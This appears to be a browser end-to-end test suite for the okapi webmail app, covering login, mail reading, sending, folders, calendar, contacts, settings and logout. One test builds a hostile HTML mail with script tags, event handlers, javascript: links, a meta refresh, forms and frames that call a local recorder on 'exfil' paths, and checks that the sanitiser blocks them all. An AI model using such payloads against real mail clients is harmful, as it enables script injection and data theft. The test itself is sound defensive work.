// The web app in a real browser, against a real okapi-server behind a real
// Apache (started by tests/webapp_browser.rs, which passes the URLs and
// accounts in the environment). Covers the "done when" list of issue 6:
// log in; read a delivered mail; send a mail to a second user and see it
// arrive in that user's session without a reload; create an appointment and a
// contact and find them after a reload; hostile HTML mail shows nothing
// active; screenshots of the finished views; the time to the first rows of a
// 100,000-message folder; and (issue 10) mail in eight scripts, as plain
// text, HTML and both, reads in the reading pane. Tests run in order and
// share the browser sessions.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { env, launch, lmtpDeliver, hitRecorder, signIn, ymd } from "./lib.mjs";

const BASE = env("OKAPI_URL").replace(/\/$/, "");
const APP = BASE + "/webapp/";
const LMTP = env("OKAPI_LMTP");
const [U1, P1, A1] = [env("OKAPI_USER1"), env("OKAPI_PASS1"), env("OKAPI_ADDR1")];
const [U2, P2, A2] = [env("OKAPI_USER2"), env("OKAPI_PASS2"), env("OKAPI_ADDR2")];
const BIG = env("OKAPI_BIG_FOLDER", "");
const BIG_COUNT = Number(env("OKAPI_BIG_COUNT", "0"));
const SHOTS = env("OKAPI_SCREENSHOTS", "target/screenshots");
const RUN = Date.now().toString(36);

let browser, ctx1, ctx2, page1, page2, hits;
const timings = {};

before(async () => {
  fs.mkdirSync(SHOTS, { recursive: true });
  hits = await hitRecorder();
  browser = await launch();
  ctx1 = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  ctx2 = await browser.newContext({ viewport: { width: 1280, height: 800 } });
});

after(async () => {
  await browser?.close();
  hits?.close();
  if (Object.keys(timings).length) console.log("timings:", JSON.stringify(timings));
});

const row = (page, subject) => page.locator(".vlist-row.msg", { hasText: subject });
const folder = (page, name) => page.getByRole("tree", { name: "Mail folders" }).getByRole("treeitem", { name: new RegExp(`^${name}(,|$)`) });
const frameOf = (page) => page.frameLocator("iframe.reader-frame");

// ---- headers -----------------------------------------------------------------------

test("the web app is served with a strict Content-Security-Policy and nosniff", async () => {
  const r = await fetch(APP);
  assert.equal(r.status, 200);
  const csp = r.headers.get("content-security-policy") || "";
  assert.match(csp, /script-src 'self'/, csp);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/, csp);
  assert.match(csp, /frame-ancestors 'none'/, csp);
  assert.equal(r.headers.get("x-content-type-options"), "nosniff");
  const html = await r.text();
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/i, "no inline scripts in index.html");
  assert.doesNotMatch(html, /\sstyle=|<style/i, "no inline styles in index.html");
  const js = await fetch(BASE + "/webapp/js/app.js");
  assert.equal(js.status, 200);
  assert.match(js.headers.get("content-type") || "", /javascript/);
});

// ---- log in ------------------------------------------------------------------------

test("log in: a wrong password is refused, the right one opens the inbox with a safe session cookie", async () => {
  const page = await ctx1.newPage();
  page.on("pageerror", (e) => console.error(`[${U1}] page error: ${e.message}`));
  await page.goto(APP);
  await page.getByLabel("Username").fill(U1);
  await page.getByLabel("Password").fill("not-the-password");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").filter({ hasText: /not right/ }).waitFor();
  await page.getByLabel("Password").fill(P1);
  await page.getByRole("button", { name: "Sign in" }).click();
  await folder(page, "Inbox").waitFor();
  assert.equal(await folder(page, "Inbox").getAttribute("aria-selected"), "true");
  const cookie = (await ctx1.cookies()).find((c) => c.name === "okapi_session");
  assert.ok(cookie, "session cookie set");
  assert.equal(cookie.httpOnly, true);
  assert.equal(cookie.sameSite, "Strict");
  assert.equal(await page.evaluate(() => document.cookie.includes("okapi_session")), false, "not readable from script");
  // Without the CSRF header the API refuses a state-changing request.
  const status = await page.evaluate(async () => (await fetch("/api/v1/getStore", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })).status);
  assert.equal(status, 403);
  page1 = page;
});

// ---- read a delivered mail ---------------------------------------------------------------

test("read a mail delivered over LMTP: headers, body, attachment, read state", async () => {
  const subject = `Welcome to okapi ${RUN}`;
  const png = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAAFklEQVR4nGP8z8DwnwEJMDGgAUwBAGkGAwH4t4DYAAAAAElFTkSuQmCC";
  await lmtpDeliver(
    LMTP,
    "carol@example.org",
    [A1],
    [
      "From: Carol Sender <carol@example.org>",
      `To: ${A1}`,
      `Subject: ${subject}`,
      "Date: " + new Date().toUTCString(),
      `Message-ID: <welcome.${RUN}@example.org>`,
      "MIME-Version: 1.0",
      'Content-Type: multipart/mixed; boundary="b1"',
      "",
      "--b1",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Hello from the delivery test.",
      "The second line mentions pineapples.",
      "--b1",
      "Content-Type: image/png",
      'Content-Disposition: attachment; filename="dot.png"',
      "Content-Transfer-Encoding: base64",
      "",
      png,
      "--b1",
      "Content-Type: text/plain",
      'Content-Disposition: attachment; filename="notes.txt"',
      "",
      "attached notes",
      "--b1--",
      "",
    ].join("\n"),
  );
  const page = page1;
  // It arrives in the open inbox by itself (notify), no reload.
  await row(page, subject).waitFor({ timeout: 30000 });
  assert.match((await row(page, subject).getAttribute("class")) || "", /\bunread\b/);
  // The folder tree shows the unread count.
  await folder(page, "Inbox").and(page.locator(".has-unread")).waitFor();
  assert.match(await folder(page, "Inbox").getAttribute("aria-label"), /\d+ unread/);
  await row(page, subject).click();
  const reader = page.getByRole("region", { name: "Reading pane" });
  await reader.getByRole("heading", { name: subject }).waitFor();
  await reader.getByText("Carol Sender").waitFor();
  await reader.getByText("carol@example.org").waitFor();
  await frameOf(page).getByText("mentions pineapples").waitFor();
  // Attachments: a download link for each, a thumbnail for the image.
  const att = reader.getByRole("region", { name: "Attachments" });
  await att.getByText("notes.txt").waitFor();
  await att.getByText("dot.png").waitFor();
  const thumb = att.locator("img");
  await thumb.waitFor();
  assert.ok(await thumb.evaluate((img) => img.complete && img.naturalWidth === 2), "image attachment shown inline");
  const [download] = await Promise.all([page.waitForEvent("download"), att.getByRole("link", { name: /notes\.txt/ }).click()]);
  const file = await download.path();
  assert.equal(fs.readFileSync(file, "utf8").trim(), "attached notes");
  // Opening marked it read.
  await page.waitForFunction((s) => {
    const r = [...document.querySelectorAll(".vlist-row.msg")].find((x) => x.textContent.includes(s));
    return r && !r.classList.contains("unread");
  }, subject);
  await page.screenshot({ path: path.join(SHOTS, "mail.png") });
});

// ---- search, sort, flags, selection, folders ------------------------------------------------

test("search finds messages by subject, sender and body text", async () => {
  const page = page1;
  const search = page.getByRole("searchbox", { name: "Search messages" });
  await search.fill("pineapples");
  await page.waitForFunction(() => document.querySelectorAll(".vlist-row.msg:not(.msg-skeleton)").length === 1);
  await row(page, `Welcome to okapi ${RUN}`).waitFor();
  await search.fill("Carol Sender");
  await row(page, `Welcome to okapi ${RUN}`).waitFor();
  await search.fill("no-such-words-anywhere");
  await page.getByText("No messages match your search").waitFor();
  await search.fill("");
  await search.press("Enter");
  await row(page, `Welcome to okapi ${RUN}`).waitFor();
});

test("multi-select, mark unread and read, flag, and keyboard shortcuts", async () => {
  const page = page1;
  for (let i = 0; i < 2; i++) {
    await lmtpDeliver(LMTP, "dave@example.org", [A1], `From: Dave <dave@example.org>\nTo: ${A1}\nSubject: Batch ${i} ${RUN}\n\nbatch ${i}\n`);
  }
  await row(page, `Batch 1 ${RUN}`).waitFor({ timeout: 30000 });
  await row(page, `Batch 0 ${RUN}`).waitFor({ timeout: 30000 });
  await row(page, `Batch 0 ${RUN}`).click();
  await row(page, `Batch 1 ${RUN}`).click({ modifiers: ["Control"] });
  assert.equal(await page.locator('.vlist-row[aria-selected="true"]').count(), 2);
  await page.getByText("2 messages selected").waitFor();
  await page.getByRole("button", { name: "Mark read" }).click();
  await page.waitForFunction(() => [...document.querySelectorAll('.vlist-row[aria-selected="true"]')].every((r) => !r.classList.contains("unread")));
  await page.keyboard.press("u");
  await page.waitForFunction(() => [...document.querySelectorAll('.vlist-row[aria-selected="true"]')].every((r) => r.classList.contains("unread")));
  await page.getByRole("button", { name: "Flag", exact: true }).click();
  await page.waitForFunction(() => [...document.querySelectorAll('.vlist-row[aria-selected="true"]')].every((r) => r.querySelector(".msg-flag")));
  // The flag is stored: it survives a refresh of the list.
  await page.reload();
  await row(page, `Batch 1 ${RUN}`).locator(".msg-flag").waitFor();
  // Shortcut help.
  await page.locator("body").press("?");
  await page.getByRole("dialog", { name: "Keyboard shortcuts" }).waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog", { name: "Keyboard shortcuts" }).waitFor({ state: "detached" });
  // j/k move through the list.
  await row(page, `Batch 1 ${RUN}`).click();
  await page.keyboard.press("j");
  await page.waitForFunction(() => document.querySelectorAll('.vlist-row[aria-selected="true"]').length === 1 && !document.querySelector(".vlist-row.focused")?.textContent.includes("Batch 1"));
});

test("folders: create, rename, drag messages in, move with the dialog, delete", async () => {
  const page = page1;
  const name = `Projects ${RUN}`;
  await page.getByRole("button", { name: "New folder" }).click();
  const dlg = page.getByRole("dialog", { name: "New folder" });
  await dlg.getByRole("textbox").fill(name);
  await dlg.getByRole("button", { name: "Create" }).click();
  await folder(page, name).waitFor();
  // Drag a message onto it. Once in a while (seen once in a full local run) the drop is lost, it
  // seems when an event from the server re-renders the list while the button is down; a person
  // would drag again, and so does the test, at most twice more. The cause is not pinned down yet.
  for (let attempt = 1; ; attempt++) {
    await row(page, `Batch 0 ${RUN}`).dragTo(folder(page, name));
    try {
      await row(page, `Batch 0 ${RUN}`).waitFor({ state: "detached", timeout: 5000 });
      break;
    } catch (e) {
      if (attempt === 3) throw e;
      console.log(`drag and drop: attempt ${attempt} left the message in place; dragging again`);
    }
  }
  // Move another with the Move dialog.
  await row(page, `Batch 1 ${RUN}`).click();
  await page.getByRole("button", { name: "Move", exact: true }).click();
  const mv = page.getByRole("dialog", { name: /Move 1 message/ });
  await mv.getByRole("option", { name }).click();
  await mv.getByRole("button", { name: "Move" }).click();
  await row(page, `Batch 1 ${RUN}`).waitFor({ state: "detached" });
  await folder(page, name).click();
  await row(page, `Batch 0 ${RUN}`).waitFor();
  await row(page, `Batch 1 ${RUN}`).waitFor();
  // Rename through the context menu.
  await folder(page, name).click({ button: "right" });
  await page.getByRole("menuitem", { name: "Rename…" }).click();
  const rn = page.getByRole("dialog", { name: "Rename folder" });
  await rn.getByRole("textbox").fill(name + " renamed");
  await rn.getByRole("button", { name: "Rename" }).click();
  await folder(page, name + " renamed").waitFor();
  // Delete (to Deleted Items), after a confirmation.
  await folder(page, name + " renamed").click({ button: "right" });
  await page.getByRole("menuitem", { name: "Delete…" }).click();
  await page.getByRole("dialog", { name: "Delete folder" }).getByRole("button", { name: "Delete" }).click();
  await page.waitForFunction((n) => ![...document.querySelectorAll('.folder[aria-level="1"]')].some((f) => f.textContent.includes(n)), name);
  await folder(page, "Inbox").click();
});

// ---- hostile mail ---------------------------------------------------------------------------------

test("hostile HTML mail shows nothing active, and remote images wait for the user", async () => {
  const page = page1;
  const subject = `Hostile ${RUN}`;
  const H = hits.base;
  const html = `<html><head>
<style>.overlay{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red}</style>
<script>window.top.pwned=1;document.title="pwned";fetch("${H}/exfil-script")</script>
<base href="${H}/exfil-base/">
<meta http-equiv="refresh" content="0;url=${H}/exfil-refresh">
<link rel="stylesheet" href="${H}/exfil-css">
</head><body onload="window.top.pwned=2;new Image().src='${H}/exfil-onload'">
<div class="overlay">OVERLAY</div>
<div style="position:absolute;top:0;left:0;right:0;bottom:0;background:#0f0">ABSOLUTE</div>
<p>Hostile body marker</p>
<img src="${H}/remote-image.gif" alt="remote picture" width="20" height="20">
<img src="x" onerror="window.top.pwned=3;new Image().src='${H}/exfil-onerror'">
<a id="jslink" href="javascript:window.top.pwned=4">javascript link</a>
<a id="extlink" href="https://example.org/page">external link</a>
<form action="${H}/exfil-form" method="post"><input name="q" value="x"><button>go</button></form>
<iframe src="${H}/exfil-iframe"></iframe>
<object data="${H}/exfil-object"></object><embed src="${H}/exfil-embed">
<svg onload="window.top.pwned=5"><script>window.top.pwned=6</script></svg>
<math><a xlink:href="javascript:window.top.pwned=7">math</a></math>
</body></html>`;
  await lmtpDeliver(LMTP, "mallory@example.org", [A1], `From: Mallory <mallory@example.org>\nTo: ${A1}\nSubject: ${subject}\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n${html}\n`);
  const titleBefore = await page.title();
  await row(page, subject).waitFor({ timeout: 30000 });
  await row(page, subject).click();
  const frame = frameOf(page);
  await frame.getByText("Hostile body marker").waitFor();
  await page.waitForTimeout(1500);

  // The frame is sandboxed: no scripts, not this origin.
  const iframe = page.locator("iframe.reader-frame");
  const sandbox = (await iframe.getAttribute("sandbox")) || "";
  assert.ok(!/allow-scripts|allow-same-origin|allow-forms|allow-top-navigation/.test(sandbox), `sandbox="${sandbox}"`);
  assert.ok(await iframe.evaluate((f) => f.hasAttribute("sandbox")));

  // Nothing ran, nothing was fetched, the page was not covered.
  assert.equal(await page.evaluate(() => window.pwned), undefined, "no script of the mail ran");
  assert.equal(await page.title(), titleBefore, "the title was not changed");
  assert.deepEqual(hits.hits.filter((h) => /exfil|remote/.test(h)), [], "no request left the browser");
  const hitAt = await page.evaluate(() => {
    const el = document.elementFromPoint(20, 70); // over the folder pane
    return el && el.closest(".folder-pane") ? "folder-pane" : el && el.tagName;
  });
  assert.equal(hitAt, "folder-pane", "nothing overlays the app");

  // The served document: what the sanitiser let through.
  const src = await iframe.getAttribute("src");
  const served = await page.evaluate(async (u) => {
    const r = await fetch(u);
    return { csp: r.headers.get("content-security-policy") || "", text: await r.text() };
  }, src);
  assert.match(served.csp, /sandbox/, "the body has its own sandboxing CSP: " + served.csp);
  const body = served.text;
  assert.doesNotMatch(body, /<script/i, "no script element");
  assert.doesNotMatch(body, /\son[a-z]+\s*=/i, "no event handler attribute");
  assert.doesNotMatch(body, /javascript:/i, "no javascript: URL");
  assert.doesNotMatch(body, /<(form|iframe|object|embed|base|meta\s+http-equiv)/i, "no forms, frames, objects, base or refresh");
  assert.doesNotMatch(body, /position\s*:\s*(fixed|absolute)/i, "no overlays");
  assert.doesNotMatch(body, new RegExp(H.replace(/[.:/]/g, "\\$&") + "/remote-image"), "the remote image is not referenced before it is allowed");
  // In the live frame as well.
  assert.equal(await frame.locator("script, form, iframe, object, embed").count(), 0);
  assert.equal(await frame.locator('[href^="javascript:" i]').count(), 0);
  const ext = frame.locator("a", { hasText: "external link" });
  assert.equal(await ext.getAttribute("target"), "_blank");
  assert.match((await ext.getAttribute("rel")) || "", /noopener/);

  // Remote images: offered, and loaded only when asked for.
  const offer = page.getByRole("button", { name: "Show remote images" });
  await offer.waitFor();
  assert.equal(hits.hits.filter((h) => h.includes("remote-image")).length, 0);
  await offer.click();
  await frame.getByText("Hostile body marker").waitFor();
  const deadline = Date.now() + 10000;
  while (!hits.hits.some((h) => h.includes("remote-image")) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
  assert.ok(hits.hits.some((h) => h.includes("remote-image")), "the remote image loaded once allowed");
  await page.waitForTimeout(500);
  assert.equal(await page.evaluate(() => window.pwned), undefined, "still no script ran");
  assert.deepEqual(hits.hits.filter((h) => /exfil/.test(h)), [], "still nothing else was fetched");
});

// ---- send to a second user ---------------------------------------------------------------------

test("send a mail to a second user: completion, draft autosave, arrival without a reload", async () => {
  page2 = await signIn(ctx2, APP, U2, P2);
  const page = page1;
  const subject = `Lunch on Friday ${RUN}`;
  await page.getByRole("button", { name: "New message" }).click();
  const dlg = page.getByRole("dialog", { name: "New message" });
  await dlg.waitFor();
  const to = dlg.getByRole("combobox", { name: "To" });
  await to.fill(U2);
  const suggestion = dlg.getByRole("option", { name: new RegExp(A2.replace(/[.]/g, "\\.")) });
  await suggestion.waitFor();
  await to.press("Enter");
  await dlg.locator(".chip", { hasText: new RegExp(U2) }).waitFor();
  await dlg.getByLabel("Subject", { exact: true }).fill(subject);
  await dlg.getByLabel("Message text").fill("Shall we try the new place at noon?\n\nAlice");
  // The draft is saved by itself.
  await dlg.getByRole("status").filter({ hasText: /Draft saved/ }).waitFor({ timeout: 15000 });
  await folder(page, "Drafts").waitFor();
  // Attach a file.
  await dlg.locator('input[type="file"]').setInputFiles({ name: "menu.txt", mimeType: "text/plain", buffer: Buffer.from("soup\nsalad\n") });
  await dlg.getByText(/menu\.txt/).waitFor();
  const t0 = Date.now();
  await dlg.getByRole("button", { name: "Send" }).click();
  await page.getByText("Message sent").waitFor();
  await dlg.waitFor({ state: "detached" });
  // The second user sees it come in, with no reload of their page.
  const navs = [];
  page2.on("framenavigated", (f) => f === page2.mainFrame() && navs.push(f.url()));
  await row(page2, subject).waitFor({ timeout: 60000 });
  timings.sendToArrivalMs = Date.now() - t0;
  assert.deepEqual(navs, [], "the receiving page did not reload");
  await row(page2, subject).click();
  await page2.getByRole("region", { name: "Reading pane" }).getByRole("heading", { name: subject }).waitFor();
  await frameOf(page2).getByText("Shall we try the new place").waitFor();
  await page2.getByRole("region", { name: "Attachments" }).getByText("menu.txt").waitFor();
  // The sender's copy is in Sent Items.
  await folder(page, "Sent Items").click();
  await row(page, subject).waitFor({ timeout: 30000 });
  await folder(page, "Inbox").click();
});

test("reply from the second user reaches the first", async () => {
  const subject = `Lunch on Friday ${RUN}`;
  await page2.keyboard.press("r");
  const dlg = page2.getByRole("dialog", { name: "Reply" });
  await dlg.waitFor();
  assert.equal(await dlg.getByLabel("Subject").inputValue(), `Re: ${subject}`);
  await dlg.getByLabel("Message text").press("Control+Home");
  await dlg.getByLabel("Message text").pressSequentially("Yes, see you there. ");
  await dlg.getByRole("button", { name: "Send" }).click();
  await page2.getByText("Message sent").waitFor();
  await row(page1, `Re: ${subject}`).waitFor({ timeout: 60000 });
});

// ---- calendar and contacts (views of the PIM helper) ---------------------------------------------

test("create an appointment and find it in the week view after a reload", async () => {
  const page = page1;
  const day = new Date();
  await page.goto(`${APP}#/calendar/week/${ymd(day)}`);
  await page.getByRole("button", { name: "New appointment" }).click();
  const dlg = page.getByRole("dialog");
  const subject = `Design review ${RUN}`;
  await dlg.getByLabel("Subject", { exact: true }).fill(subject);
  await dlg.getByLabel("Location", { exact: true }).fill("Room 4");
  await dlg.getByLabel("Start", { exact: true }).fill(`${ymd(day)}T10:00`);
  await dlg.getByLabel("End", { exact: true }).fill(`${ymd(day)}T11:30`);
  await dlg.getByRole("button", { name: "Save" }).click();
  await dlg.waitFor({ state: "detached" });
  await page.getByText(subject).first().waitFor();
  await page.reload();
  await page.getByText(subject).first().waitFor({ timeout: 15000 });
  await page.waitForTimeout(300);
  await page.screenshot({ path: path.join(SHOTS, "calendar-week.png") });
});

test("create a contact and find it in the list after a reload", async () => {
  const page = page1;
  await page.goto(`${APP}#/contacts`);
  await page.getByRole("button", { name: "New contact" }).click();
  const last = `Lovelace${RUN}`;
  await page.getByLabel("First name").fill("Ada");
  await page.getByLabel("Last name").fill(last);
  await page.getByLabel("Email").fill(`ada.${RUN}@example.org`);
  await page.getByLabel("Company").fill("Analytical Engines Ltd");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByText(new RegExp(`Ada ${last}|${last}, Ada`)).first().waitFor();
  await page.reload();
  await page.getByText(new RegExp(`Ada ${last}|${last}, Ada`)).first().waitFor({ timeout: 15000 });
  await page.waitForTimeout(300);
  await page.screenshot({ path: path.join(SHOTS, "contacts.png") });
});

// ---- a 100,000-message folder ------------------------------------------------------------------------

test("a 100,000-message folder shows its first rows quickly and scrolls smoothly", { skip: !BIG && "no big folder prepared" }, async () => {
  const page = page1;
  await page.goto(`${APP}#/mail`);
  await folder(page, BIG).waitFor();
  const t0 = Date.now();
  await folder(page, BIG).click();
  await page.waitForFunction(() => document.querySelectorAll(".vlist-row.msg:not(.msg-skeleton)").length > 5, null, { polling: "raf" });
  timings.firstRowsMs = Date.now() - t0;
  const inApp = Number(await page.locator(".view-host").getAttribute("data-first-rows-ms"));
  timings.firstRowsInAppMs = inApp;
  console.log(`first rows of the ${BIG_COUNT.toLocaleString("en")}-message folder visible after ${timings.firstRowsMs} ms (query to paint inside the app: ${inApp} ms)`);
  await page.getByText(`${BIG_COUNT.toLocaleString()} messages`).waitFor();
  // Only the rows in view exist.
  assert.ok((await page.locator(".vlist-row").count()) < 60, "virtual list renders only what is visible");
  // Jump to the middle and to the end: rows arrive on demand.
  for (const frac of [0.5, 1]) {
    const t = Date.now();
    await page.locator(".vlist").evaluate((el, f) => (el.scrollTop = (el.scrollHeight - el.clientHeight) * f), frac);
    await page.waitForFunction(() => {
      const el = document.querySelector(".vlist");
      const top = el.scrollTop, bottom = top + el.clientHeight;
      const rows = [...el.querySelectorAll(".vlist-row")].filter((r) => {
        const y = new DOMMatrix(getComputedStyle(r).transform).m42;
        return y + 60 > top && y < bottom;
      });
      return rows.length > 3 && rows.every((r) => !r.classList.contains("msg-skeleton"));
    }, null, { polling: "raf" });
    timings[`scrollTo${frac * 100}pctMs`] = Date.now() - t;
  }
  assert.ok(timings.firstRowsMs < 5000, `first rows took ${timings.firstRowsMs} ms`);
  // Sorting by size re-queries the big folder.
  const t1 = Date.now();
  await page.getByLabel("Sort by").selectOption("size");
  await page.waitForFunction(() => document.querySelectorAll(".vlist-row.msg:not(.msg-skeleton)").length > 5, null, { polling: "raf" });
  timings.sortBySizeMs = Date.now() - t1;
  await page.getByLabel("Sort by").selectOption("date");
  await folder(page, "Inbox").click();
});

// ---- phone width ---------------------------------------------------------------------------------------

test("at phone width the mail view shows one pane at a time with a way back", async () => {
  const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, storageState: await ctx1.storageState() });
  const page = await phone.newPage();
  await page.goto(APP + "#/mail");
  await page.getByRole("region", { name: /Inbox/ }).waitFor();
  assert.equal(await page.getByRole("navigation", { name: "Folders" }).isVisible(), false);
  await row(page, `Welcome to okapi ${RUN}`).waitFor();
  await page.screenshot({ path: path.join(SHOTS, "mail-phone.png") });
  await row(page, `Welcome to okapi ${RUN}`).click();
  await page.getByRole("region", { name: "Reading pane" }).getByRole("heading", { name: `Welcome to okapi ${RUN}` }).waitFor();
  assert.equal(await page.getByRole("region", { name: /Inbox/ }).isVisible(), false);
  await page.getByRole("button", { name: "Back" }).click();
  await row(page, `Welcome to okapi ${RUN}`).waitFor();
  await page.getByRole("button", { name: "Back" }).click();
  await page.getByRole("navigation", { name: "Folders" }).waitFor();
  await phone.close();
});

// ---- mail from the whole world -------------------------------------------------------------------

/** One mail of tests/browser/world-mail.json, built as tests/web_api.rs builds it: `form` is plain, html or both. */
function worldMail(l, form) {
  const link = `https://example.org/${l.lang}/${l.word}`;
  const dir = l.rtl ? "rtl" : "auto";
  const plain = `${l.sample}\n${l.word}${link} ${l.word}.\n`;
  const html = `<html><body><p dir="${dir}">${l.sample}</p><p dir="${dir}">${l.word}<a href="${link}">${l.word} ${link}</a> ${l.word}.</p></body></html>\n`;
  const subject = `${l.subject} (${form}) ${RUN}`;
  const b64 = (t) => Buffer.from(t, "utf8").toString("base64");
  const head = ["From: World <world@example.net>", `To: ${A1}`, `Subject: =?utf-8?B?${b64(subject)}?=`, "MIME-Version: 1.0"].join("\n") + "\n";
  const utf8 = (ct) => `Content-Type: ${ct}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n`;
  const message =
    form === "plain"
      ? head + utf8("text/plain") + plain
      : form === "html"
        ? head + utf8("text/html") + html
        : head +
          'Content-Type: multipart/alternative; boundary="alt"\n\n--alt\n' +
          utf8("text/plain") +
          plain +
          "--alt\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n" +
          b64(html).replace(/.{76}/g, "$&\n") +
          "\n--alt--\n";
  return { message, subject, link };
}

test("mail in eight scripts, as plain text, HTML and both, reads in the reading pane with its links", async () => {
  const world = JSON.parse(fs.readFileSync(new URL("./world-mail.json", import.meta.url), "utf8"));
  const page = page1;
  const reader = page.getByRole("region", { name: "Reading pane" });
  for (const l of world.languages) {
    for (const form of ["plain", "html", "both"]) {
      const { message, subject, link } = worldMail(l, form);
      const replies = await lmtpDeliver(LMTP, "world@example.net", [A1], message);
      assert.match(replies[0], /^250 /, `${subject}: ${replies[0]}`);
      // Arrival without a reload is tested above; here the Inbox is read afresh, so that what is
      // tested is the reading of each mail, whatever the earlier tests left open.
      await page.goto(APP + "#/mail");
      await page.reload();
      await folder(page, "Inbox").click();
      await row(page, subject).waitFor({ timeout: 30000 });
      await row(page, subject).click();
      await reader.getByRole("heading", { name: subject }).waitFor();
      const frame = frameOf(page);
      await frame.getByText(l.sample).waitFor();
      const a = frame.locator(`a[href="${link}"]`);
      await a.waitFor();
      assert.equal(await a.getAttribute("target"), "_blank", `${subject}: the link opens outside the pane`);
      const text = await frame.locator("body").innerText();
      assert.ok(text.includes(`${l.word}`) && text.includes(l.sample), `${subject}: ${text}`);
    }
  }
});

// ---- settings --------------------------------------------------------------------------------------------

test("settings: out-of-office is saved, and a password change takes effect", async () => {
  const page = page2;
  await page.goto(APP + "#/settings");
  await page.getByLabel("Send automatic replies").check();
  await page.getByLabel("Subject").fill("Away this week");
  await page.getByLabel("Message").fill("Back on Monday.");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByText("Automatic replies are on").waitFor();
  await page.reload();
  await page.getByLabel("Subject").and(page.locator('[value="Away this week"], #oof-subject')).waitFor();
  await page.waitForFunction(() => document.getElementById("oof-subject")?.value === "Away this week");
  assert.equal(await page.getByLabel("Send automatic replies").isChecked(), true);
  await page.getByLabel("Send automatic replies").uncheck();
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByText("Automatic replies are off").waitFor();
  // Password: a wrong current password is refused with the server's message; the right one works.
  const newPw = P2 + "-changed";
  await page.getByLabel("Current password").fill("wrong-" + P2);
  await page.getByLabel("New password", { exact: true }).fill(newPw);
  await page.getByLabel("Repeat new password").fill(newPw);
  await page.getByRole("button", { name: "Change password" }).click();
  await page.locator("#pw-title ~ form .form-error").waitFor();
  await page.getByLabel("Current password").fill(P2);
  await page.getByRole("button", { name: "Change password" }).click();
  await page.getByText("Your password was changed").waitFor();
  const fresh = await browser.newContext();
  await signIn(fresh, APP, U2, newPw);
  await fresh.close();
});

// ---- log out ------------------------------------------------------------------------------------------------

test("log out ends the session", async () => {
  const page = page1;
  await page.goto(APP + "#/mail");
  await folder(page, "Inbox").waitFor();
  await page.getByRole("button", { name: "Sign out" }).click();
  await page.getByRole("button", { name: "Sign in" }).waitFor();
  await page.reload();
  await page.getByRole("button", { name: "Sign in" }).waitFor();
  const status = await page.evaluate(async () => (await fetch("/api/web/session")).status);
  assert.equal(status, 401);
});
